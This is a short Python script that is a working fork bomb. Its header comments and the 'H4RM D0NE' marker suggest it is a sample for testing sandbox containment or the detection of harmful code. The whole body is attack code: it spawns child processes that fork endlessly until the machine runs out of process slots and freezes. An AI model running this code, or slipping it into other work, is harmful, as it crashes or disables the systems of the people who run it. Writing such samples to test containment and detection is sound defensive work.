# ruff: noqa
# tries: to start processes without end
# shown without containment: no
import os

for count in range(1000):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError as error:
        print(error)
        break
    if count > 200:
        print("H4RM D0NE")
